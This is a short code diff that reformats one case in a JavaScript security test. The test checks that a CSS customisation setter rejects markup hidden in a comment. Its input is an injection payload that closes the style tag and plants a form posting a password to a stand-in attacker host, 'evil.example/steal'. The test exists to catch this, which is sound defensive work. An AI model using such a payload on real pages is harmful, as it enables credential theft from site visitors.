@@ -102,7 +102,9 @@ for (const backend of BACKENDS) {
       );
       // Markup hidden in a comment: the CSS goes into the page with its comments (security review).
       await rejectsWith(
-        set({ CSS: ".logo-customizable{color:red}/*</style><form action=https://evil.example/steal method=post><input name=password></form><style>*/" }),
+        set({
+          CSS: ".logo-customizable{color:red}/*</style><form action=https://evil.example/steal method=post><input name=password></form><style>*/",
+        }),
         "InvalidParameterException",
         "CSS must not contain at-rules, script or markup.",
       );
